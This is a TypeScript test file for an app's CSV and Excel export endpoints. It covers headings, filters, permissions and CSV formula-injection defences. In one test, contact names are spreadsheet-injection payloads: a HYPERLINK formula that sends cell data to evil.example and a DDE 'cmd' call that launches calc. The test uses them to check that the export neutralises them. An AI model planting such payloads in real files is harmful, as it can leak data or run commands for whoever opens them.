import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { es } from '@app/domain/messages/es';
import * as schema from '../../src/db/schema/index.ts';
import { call, loginAsSuper, startTestApp, type TestApp } from '../helpers/app.ts';
import { asExisting } from '../helpers/existing.ts';
import { client, databaseState, expectError } from '../helpers/expect.ts';
import { cardAdmin, cardBody, cardWorld, createCard, setStatus, type CardWorld } from '../helpers/flashcards.ts';

let t: TestApp;
let superToken: string;
let world: CardWorld;

/** The export's bytes and headers, through the app as a browser calls it. */
async function exportOf(url: string, token = superToken) {
  const res = await t.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } });
  return { status: res.statusCode, headers: res.headers, body: res.rawPayload, text: res.body };
}

/** A CSV as rows of cells (no quoted line breaks in these fixtures). */
function csvRows(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  return text
    .slice(1)
    .split('\r\n')
    .filter((line) => line !== '')
    .map((line) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)].slice(0, -1).map((m) => m[1]!.replace(/^"|"$/g, '').replaceAll('""', '"')));
}

beforeAll(async () => {
  t = await startTestApp();
  superToken = await loginAsSuper(t);
  world = await cardWorld(t);
  await t.database.db.insert(schema.sectors).values(
    Array.from({ length: 150 }, (_, i) => ({
      name: `Sector ${String(i).padStart(3, '0')}`,
      description: i === 7 ? 'Con "comillas", comas y acentos: año' : `Descripción ${i}`,
      active: i % 10 !== 0,
      createdAt: new Date(Date.UTC(2026, 2, 2, 3, i)),
      updatedAt: new Date(Date.UTC(2026, 2, 2, 3, i)),
    })),
  );
});
afterAll(() => t?.close());

describe('GET /api/<path>/export', () => {
  it('writes every page of the list as CSV: Spanish headings, its search, counter and order, values as the list reads them', async () => {
    const all = await exportOf('/api/sectors/export?format=csv&sort=name&tz=America/Mexico_City');
    expect(all.status).toBe(200);
    expect(all.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(all.headers['content-disposition']).toMatch(/^attachment; filename="sectores-\d{4}-\d{2}-\d{2}\.csv"/);
    const rows = csvRows(all.text);
    expect(rows[0]).toEqual(['Nombre', 'Descripción', 'Creado', 'Modificado', 'Estatus']);
    expect(rows).toHaveLength(151);
    expect(rows[1]).toEqual(['Sector 000', 'Descripción 0', '01/03/2026', '01/03/2026', 'Inactivo']);
    expect(rows[8]).toEqual(['Sector 007', 'Con "comillas", comas y acentos: año', '01/03/2026', '01/03/2026', 'Activo']);
    expect(rows.at(-1)![0]).toBe('Sector 149');

    // The "Inactivos" counter and a search, newest first: what the list shows with them.
    const inactive = csvRows((await exportOf('/api/sectors/export?format=csv&active=false&search=sector%2001&tz=UTC')).text);
    expect(inactive.slice(1).map((r) => [r[0], r[2], r[4]])).toEqual([
      ['Sector 010', '02/03/2026', 'Inactivo'],
    ]);
    const since = csvRows((await exportOf(`/api/sectors/export?format=csv&createdFrom=${encodeURIComponent('2026-03-02T05:28:00.000Z')}`)).text);
    expect(since.slice(1).map((r) => r[0])).toEqual(['Sector 149', 'Sector 148']);
    const between = csvRows(
      (await exportOf(`/api/sectors/export?format=csv&sort=name&createdFrom=2026-03-02T05:20:00.000Z&createdTo=${encodeURIComponent('2026-03-01T23:21:00-06:00')}`)).text,
    );
    expect(between.slice(1).map((r) => r[0])).toEqual(['Sector 140', 'Sector 141']);
  });

  it('writes the same as Excel, headings in bold', async () => {
    const file = await exportOf('/api/sectors/export?format=xlsx&sort=-name&active=true');
    expect(file.status).toBe(200);
    expect(file.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(file.headers['content-disposition']).toMatch(/filename="sectores-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Sectores')!;
    expect(sheet.rowCount).toBe(136);
    expect(sheet.getRow(1).values).toEqual([undefined, 'Nombre', 'Descripción', 'Creado', 'Modificado', 'Estatus']);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.getRow(2).values).toEqual([undefined, 'Sector 149', 'Descripción 149', '02/03/2026', '02/03/2026', 'Activo']);
  });

  it('reads references, lists and states by their labels and people by full name, within the caller’s GTA', async () => {
    const author = await cardAdmin(t, { formCards: { read: true, create: true } }, { gta: world.gtaA.id });
    const card = await createCard(t, author.token, cardBody(world, { name: 'Captación "pluvial"' }));
    await setStatus(t, card._id, 2);
    const other = await createCard(t, superToken, cardBody(world, { name: 'Tarjeta de energía', gta: world.gtaB.id, workAxis: world.axisB }));

    const rows = csvRows((await exportOf('/api/flashcards/export?format=csv', author.token)).text);
    expect(rows[0]).toEqual(['Número', 'Nombre', 'GTA', 'Estado de revisión', 'Autor', 'Creado', 'Estatus']);
    // The author sees GTA A only: the GTA B card is not in their list, so not in their export.
    expect(rows.slice(1).map((r) => r[1])).toEqual(['Captación "pluvial"']);
    expect(rows[1]!.slice(2, 5)).toEqual(['GTA Agua', 'Aprobado', 'Ana Prueba']);
    expect(rows[1]![0]).toMatch(/^\d{3}$/);

    const everything = csvRows((await exportOf('/api/flashcards/export?format=csv&status=0')).text);
    expect(everything.slice(1).map((r) => r[1])).toEqual([other.name]);
  });

  it('names a nullable reference by its label and leaves pictures out', async () => {
    const rows = csvRows((await exportOf('/api/admins/export?format=csv')).text);
    // The list's thumbnail column is not in the file; the name column reads the full name.
    expect(rows[0]).toEqual(['Nombre', 'Correo electrónico', 'Rol', 'Empresa', 'Creado', 'Modificado', 'Estatus']);
    expect(rows.find((r) => r[1] === 'super@example.com')?.slice(0, 3)).toEqual(['Super Usuario', 'super@example.com', 'Super Usuario']);
  });

  it('writes a text a spreadsheet would run as a formula with a leading quote in CSV, and as a text cell in Excel', async () => {
    const names = [
      '=HYPERLINK("http://evil.example/?d="&A2,"Ver")',
      '+SUMA(1;2)',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)*cmd',
      '\tTabulador',
      '\rRetorno',
      '-12.5',
      'Ana = Beto',
    ];
    await asExisting(t, (tx) =>
      tx.insert(schema.contacts).values(names.map((name, i) => ({ name, email: `contacto${i}@example.com`, message: 'Mensaje de prueba', createdAt: new Date(Date.UTC(2026, 0, 1, 0, i)) }))),
    );
    const rows = csvRows((await exportOf('/api/contacts/export?format=csv&sort=createdAt')).text);
    expect(rows.slice(1).map((r) => r[0])).toEqual([
      '\'=HYPERLINK("http://evil.example/?d="&A2,"Ver")',
      "'+SUMA(1;2)",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(1+1)*cmd",
      "'\tTabulador",
      "'\rRetorno",
      // A plain number holds no formula: it stays a number.
      '-12.5',
      'Ana = Beto',
    ]);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exportOf('/api/contacts/export?format=xlsx&sort=createdAt')).body as unknown as ArrayBuffer);
    const cells = workbook.getWorksheet('Contactos')!.getColumn(1).values.slice(2);
    // XML reads a carriage return as a line break.
    expect(cells).toEqual(names.map((name) => name.replace('\r', '\n')));
    workbook.getWorksheet('Contactos')!.getColumn(1).eachCell((cell) => {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    });
  });

  it('refuses bad parameters with a clear 400 and callers without the list permission with 403, changing nothing', async () => {
    const reader = await cardAdmin(t, { users: { read: true } });
    const before = await databaseState(t, { withSessions: false });
    const api = client(t, superToken);
    expectError(await api.get('/api/sectors/export'), 400, es.api.validation, [{ path: 'format', msg: es.validation.exportFormat }]);
    expectError(await api.get('/api/sectors/export?format=pdf'), 400, es.api.validation, [{ path: 'format', msg: es.validation.exportFormat }]);
    expectError(await api.get('/api/sectors/export?format=csv&tz=Marte/Olympus'), 400, es.api.validation, [{ path: 'tz', msg: es.validation.timeZone }]);
    expectError(await api.get('/api/sectors/export?format=csv&sort=password'), 400, es.api.validation, [{ path: 'sort', msg: es.validation.sort }]);
    expectError(await api.get('/api/sectors/export?format=csv&createdFrom=ayer'), 400, es.api.validation, [
      { path: 'createdFrom', msg: es.validation.createdFrom },
    ]);
    expectError(await api.get('/api/flashcards/export?format=csv&gta=no-es-id'), 400, es.api.validation);
    expectError(await call(t, { method: 'GET', url: '/api/sectors/export?format=csv' }), 401, es.api.unauthorized);
    expectError(await reader.api.get('/api/sectors/export?format=csv'), 403, es.api.forbidden);
    expect(await databaseState(t, { withSessions: false })).toBe(before);
  });
});
